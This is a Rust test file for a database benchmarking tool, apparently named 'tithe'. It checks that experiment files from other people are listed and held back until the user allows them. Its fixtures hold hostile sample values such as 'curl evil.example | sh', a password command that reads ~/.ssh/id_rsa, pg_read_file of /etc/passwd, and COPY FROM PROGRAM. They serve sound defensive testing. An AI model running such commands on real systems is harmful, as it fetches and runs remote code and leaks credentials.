//! What a file from somebody else would run here, and how its reader allows that.

use std::{fs, os::unix::fs::PermissionsExt as _, path::Path};

use expect_test::expect;

use super::support::{Bench, err, interrupted_after, out};

/// Everything by which a file has effects outside, each next to something harmless.
const REACHING: &str = r#"title = "somebody's"
database = "postgres"
[settings]
archive_command = "curl evil.example | sh"
work_mem = "4MB"
[data]
records = 500
[[workload]]
ycsb = "c"
[[workload]]
script = ["mine.sql", "more.sql"]
prepare = "shop.sql"
[[arm]]
name = "plain"
[[arm]]
name = "own"
settings = { dynamic_library_path = "/tmp", wal_compression = "on" }
claims = [{ statement = "SHOW dynamic_library_path", equals = "/tmp" }]
protections = [
  { use = "custom", name = "watch", session = ["SET a = '1\u001b[2J'"], files = { "a.so" = "a.so" } },
  { use = "row-level-security" },
]
"#;

/// The same for a running server.
const ATTACHED: &str = r#"title = "somebody's"
database = "postgres"
[data]
records = 500
[measure]
budget = "10 min"
[[workload]]
ycsb = "c"
[[arm]]
name = "plain"
url = "postgres://u@db.example/x"
[[arm]]
name = "audited"
url = "postgres://u@db.example/x?PASSWORD-command=cat%20~/.ssh/id_rsa"
[arm.switch]
on = ["./audit", "on"]
off = ["./audit", "off"]
ready = "SELECT pg_read_file('/etc/passwd')"
"#;

/// A quick experiment with a statement of its own.
fn own(statement: &str, records: u32) -> String {
    format!(
        "title = \"own\"\ndatabase = \"sqlite\"\n[data]\nrecords = {records}\n[measure]\nbudget = \"15 s\"\n[[workload]]\n\
         ycsb = \"c\"\n[[arm]]\nname = \"plain\"\n[[arm]]\nname = \"wiped\"\nclaims = [{{ statement = \"{statement}\", \
         equals = \"1\" }}]\nsettings = {{ secure_delete = \"ON\" }}\n"
    )
}

fn bench(name: &str) -> Bench {
    let bench = Bench::new(name);
    bench.file("shop.sql", "CREATE TABLE t (a int);");
    bench.file("mine.sql", "SELECT 1;\n");
    bench.file("more.sql", "SELECT 2;\n");
    bench.file("a.so", "\u{7f}ELF");
    fs::create_dir(bench.path("protections")).expect("a folder");
    let file = "description = \"rows\"\nstatements = [\n  \"CREATE ROLE one\",\n  \"COPY t FROM PROGRAM 'id'\",\n]\n";
    fs::write(bench.path("protections/row-level-security.toml"), file).expect("written");
    bench
}

fn plan(bench: &Bench, text: &str) -> String {
    bench.file("e.toml", text);
    let output = bench.cautious_command(&["plan", "e.toml"]).output().expect("tithe starts");
    let told = out(&output);
    assert!(!told.is_empty(), "{}", err(&output));
    told.lines()
        .skip_while(|line| !line.starts_with("This file runs"))
        .take_while(|line| !line.is_empty())
        .fold(String::new(), |all, line| all + line + "\n")
}

#[test]
fn a_plan_lists_what_a_file_runs() {
    let bench = bench("reaching");
    expect![[r#"
        This file runs (not allowed yet)
          line 4                                 setting    archive_command = curl evil.example | sh
          line 12                                file       shop.sql
          line 11                                script     SELECT 1;
          line 11                                script     SELECT 2;
          line 20                                file       a.so
          line 20                                statement  SET a = '1\u{1b}[2J'
          protections/row-level-security.toml:3  statement  CREATE ROLE one
          protections/row-level-security.toml:4  statement  COPY t FROM PROGRAM 'id'
          line 17                                setting    dynamic_library_path = /tmp
          line 18                                statement  SHOW dynamic_library_path
    "#]]
    .assert_eq(&plan(&bench, REACHING));
    expect![[r#"
        This file runs (not allowed yet)
          line 14  command    cat ~/.ssh/id_rsa
          line 16  command    ./audit on
          line 17  command    ./audit off
          line 18  statement  SELECT pg_read_file('/etc/passwd')
    "#]]
    .assert_eq(&plan(&bench, ATTACHED));
    assert_eq!(plan(&bench, &own("x", 500).replace("claims", "#")), "", "nothing but plain settings");
}

#[test]
fn nothing_is_run_that_was_not_allowed_and_nothing_is_asked_for_twice() {
    let bench = bench("allowed");
    let verify = |words: &[&str]| {
        let output = bench.cautious_command(&[&["verify"], words].concat()).output().expect("tithe starts");
        (output.status.code(), err(&output))
    };
    bench.file("e.toml", &own("PRAGMA secure_delete", 500));
    let (status, told) = verify(&["e.toml"]);
    assert_eq!(status, Some(2), "{told}");
    expect![[r#"
        This file runs (not allowed yet)
          line 13  statement  PRAGMA secure_delete

        tithe: e.toml would run this with your rights, or in a server with the server's; read it, and if you trust it, allow it once:
          tithe verify e.toml --allow-commands
        nothing was started
    "#]].assert_eq(&told);
    assert!(!bench.path("tithe-runs").exists() && !bench.path("state").exists(), "nothing was started or kept");
    let (status, told) = verify(&["e.toml", "--allow-commands"]);
    assert_eq!(status, Some(0), "{told}");
    // It runs the same, whatever its place and its other content.
    bench.file("other.toml", &own("PRAGMA secure_delete", 600));
    assert_eq!(verify(&["other.toml"]).0, Some(0));
    bench.file("e.toml", &own("PRAGMA secure_delete; SELECT 1", 500));
    assert_eq!(verify(&["e.toml"]).0, Some(2), "another statement");
    // A record that another user could write allows nothing.
    let record = bench.path("state/tithe/allowed");
    assert_eq!(fs::metadata(&record).expect("a record").permissions().mode() & 0o777, 0o600);
    fs::set_permissions(&record, fs::Permissions::from_mode(0o622)).expect("changed");
    assert_eq!(verify(&["other.toml"]).0, Some(2));
}

#[test]
fn the_content_of_files_counts() {
    let bench = bench("content");
    let is_allowed = |text: &str| plan(&bench, text).starts_with("This file runs (allowed before)");
    bench.file("e.toml", REACHING);
    bench.tithe(&["plan", "e.toml"]);
    assert!(is_allowed(REACHING));
    for (name, from, to) in [
        ("mine.sql", "1", "3"),
        ("shop.sql", "int", "text"),
        ("a.so", "ELF", "elf"),
        ("protections/row-level-security.toml", "'id'", "'ls'"),
    ] {
        let before = fs::read_to_string(bench.path(name)).expect("there");
        fs::write(bench.path(name), before.replace(from, to)).expect("written");
        assert!(!is_allowed(REACHING), "{name}");
        fs::write(bench.path(name), before).expect("written");
        assert!(is_allowed(REACHING), "{name}");
    }
    let switch = bench.file("audit", "#!/bin/sh\n");
    bench.file("e.toml", ATTACHED);
    bench.tithe(&["plan", "e.toml"]);
    assert!(is_allowed(ATTACHED));
    fs::write(switch, "#!/bin/sh\nid\n").expect("written");
    assert!(!is_allowed(ATTACHED), "the program of a command");
}

#[test]
fn somebody_elses_run_folder_does_not_go_on() {
    let bench = Bench::new("foreign-folder");
    bench.file("e.toml", &own("PRAGMA secure_delete", 500));
    let output = interrupted_after(1, &bench, &mut bench.command(&["run", "e.toml", "--quiet"]));
    assert_eq!(output.status.code(), Some(130), "{}", err(&output));
    let folder = bench.run_folder().display().to_string();
    let resume = || bench.cautious_command(&["run", "--resume", &folder, "--quiet"]);
    let output = resume().env("XDG_STATE_HOME", bench.path("another")).output().expect("tithe starts");
    let (status, told) = (output.status.code(), err(&output));
    let frames = bench.frames_so_far();
    let output = interrupted_after(frames + 1, &bench, &mut resume());
    assert_eq!(output.status.code(), Some(130), "one's own goes on: {}", err(&output));
    assert!(status == Some(2) && told.contains("PRAGMA secure_delete") && told.contains("--allow-commands"), "{told}");
}

#[test]
fn a_device_is_not_read_and_words_are_the_callers_own() {
    let bench = bench("device");
    bench.file("e.toml", &own("x", 500).replace("ycsb = \"c\"", "ycsb_file = \"/dev/zero\""));
    let output = bench.tithe(&["plan", "e.toml"]);
    assert!(err(&output).contains("it is a device"), "{}", err(&output));
    let output = bench.cautious_command(&["plan", "postgres", "--script", "mine.sql"]).output().expect("tithe starts");
    assert!(!out(&output).contains("This file runs"), "{}", out(&output));
    let words = ["plan", "postgres", "--protect", "row-level-security"];
    let output = bench.cautious_command(&words).output().expect("tithe starts");
    assert!(out(&output).contains("protections/row-level-security.toml:4"), "{}{}", out(&output), err(&output));
}

#[test]
fn experiments_that_come_with_tithe_run_nothing_but_attached_ones_and_a_build() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../experiments");
    let bench = Bench::new("own-experiments");
    let mut reaching = Vec::new();
    for folder in ["", "published", "compliance", "attached"] {
        for entry in fs::read_dir(root.join(folder)).expect("experiments").flatten() {
            let path = entry.path();
            if path.extension().is_some_and(|ending| ending == "toml") {
                let path = path.canonicalize().expect("there");
                let output = bench.cautious_command(&["plan", &path.display().to_string()]).output();
                if out(&output.expect("tithe starts")).contains("This file runs") {
                    reaching.push(format!("{folder}/{}", entry.file_name().display()));
                }
            }
        }
    }
    reaching.sort();
    let expected = ["attached/mysql.toml", "attached/postgres.toml", "published/001-encrypted-volumes-jenkins.toml"];
    assert_eq!(reaching, expected);
}
